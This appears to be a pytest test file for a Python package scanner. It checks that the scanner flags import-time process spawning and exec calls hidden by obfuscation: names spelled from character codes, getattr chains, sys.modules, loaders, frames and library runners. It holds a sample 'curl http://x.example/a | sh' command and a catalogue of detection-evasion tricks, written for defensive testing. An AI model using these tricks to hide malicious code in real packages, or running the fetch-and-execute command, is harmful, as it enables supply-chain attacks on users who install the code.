"""A module in which no telling word is written: names are put together from numbers, modules taken
from other modules, functions given other names. Each earns a syntax tree, and what it does is found
where the module is imported."""

from __future__ import annotations

import pytest

from safe_pip.extractors import observe
from tests.sources import distribution_of

COMMAND = "curl http://x.example/a | sh"
PROGRAM = f"import os; os.system({COMMAND!r})"


def spelt(text: str) -> str:
    return f"''.join([chr(c) for c in {[ord(letter) for letter in text]}])"


def found_in(source: str) -> set[str]:
    files = {"demo/__init__.py": "from .mod import x\n", "demo/mod.py": source}
    return {
        item.feature
        for item in observe(distribution_of(files))
        if item.surface.runs_unasked and item.location.path == "demo/mod.py"
    }


OF_OS = {
    "getattr": f"import os as o\ngetattr(o, {spelt('system')})",
    "variable": "import os\no = os\ngetattr(o, 'sys' 'tem')",
    "from another module": f"from shutil import os as o\ngetattr(o, {spelt('system')})",
    "through another module": f"import shutil\nn = {spelt('system')}\ngetattr(shutil.os, n)",
    "through os.path": "from os import path\npath.os.system",
    "private": "import random\nrandom._os.system",
    "dict": f"import os as o\no.__dict__.get({spelt('system')})",
    "modules": f"import sys\ngetattr(sys.modules[{spelt('os')}], {spelt('system')})",
    "modules by another name": f"from sys import modules as q\ngetattr(q[{spelt('os')}], 'sys' 'tem')",
    "modules through another": "import copy\ncopy.sys.modules['os'].system",
    "loader": f"getattr(__loader__.load_module({spelt('os')}), {spelt('system')})",
    "spec": f"getattr(__spec__.loader.load_module({spelt('os')}), {spelt('system')})",
    "getattr by another name": f"import os as o\ng = getattr\ng(o, {spelt('system')})",
    "reduce": f"import os, functools\nfunctools.reduce(getattr, [{spelt('system')}], os)",
    "pattern": "import os as o\nmatch o:\n    case object(system=s): pass\ns",
}
OF_BUILTINS = {
    "globals by another name": f"g = globals\nb = g()[{spelt('__builtins__')}]",
    "globals as a default": f"def f(g=globals): return g()[{spelt('__builtins__')}]\nb = f()",
    "globals by a variable": f"n = {spelt('__builtins__')}\nb = globals()[n]",
    "get": f"n = {spelt('__builtins__')}\nb = globals().get(n)",
    "locals": f"n = {spelt('__builtins__')}\nb = locals()[n]",
    "vars": f"n = {spelt('__builtins__')}\nb = vars()[n]",
    "frame": f"import inspect\nb = inspect.currentframe().f_globals[{spelt('__builtins__')}]",
    "builtins of a frame": "import sys\nb = sys._getframe().f_builtins",
}
RUNNING_TEXT = {
    "timeit": "import timeit\ntimeit.timeit",
    "pdb": "import pdb\npdb.run",
    "cProfile": "import cProfile\ncProfile.run",
    "trace": "import trace\ntrace.Trace().run",
}


@pytest.mark.parametrize("way", OF_OS)
def test_a_function_of_os_that_nobody_names(way: str) -> None:
    assert "proc_spawn_unasked" in found_in(f"{OF_OS[way]}({spelt(COMMAND)})\n")


@pytest.mark.parametrize("way", OF_BUILTINS)
def test_a_builtin_that_nobody_names(way: str) -> None:
    source = f"{OF_BUILTINS[way]}\nb[{spelt('exec')}]({spelt(PROGRAM)})\n"
    assert "dyn_exec_unasked" in found_in(source)


@pytest.mark.parametrize("way", RUNNING_TEXT)
def test_text_that_the_library_runs(way: str) -> None:
    assert "proc_spawn_unasked" in found_in(f"{RUNNING_TEXT[way]}({spelt(PROGRAM)})\n")


def test_what_is_looked_up_by_a_name_that_is_put_together_is_told() -> None:
    source = f"q = {spelt('__subclasses__')}\ngetattr(().__class__.__base__, q)()\n"
    assert "hidden_lookup_unasked" in found_in(source)
    source = f"import os, functools\nfunctools.partial(getattr, os)({spelt('system')})\n"
    assert "hidden_lookup_unasked" in found_in(source)


@pytest.mark.parametrize(
    "source",
    [
        "import os\nif hasattr(os, 'fork'):\n    N = len(os.environ.get('PATH', ''))\n",
        "import sys\nfor name in dir(sys.modules[__name__]):\n    print(name)\n",
        "def __getattr__(name):\n    return globals()[name.lower()]\n",
        "from sphinx.util import osutil\nosutil.ensuredir('x')\n",
        "import inspect\nNAME = inspect.currentframe().f_globals['__name__']\n",
        "from timeit import default_timer as timer\nSTART = timer()\n",
        "ALPHABET = ''.join(map(chr, range(97, 123)))\n",
    ],
)
def test_ordinary_uses_are_nothing(source: str) -> None:
    names = found_in(source)
    assert not any(name.startswith(("proc", "shell", "dyn", "hidden", "chain")) for name in names)
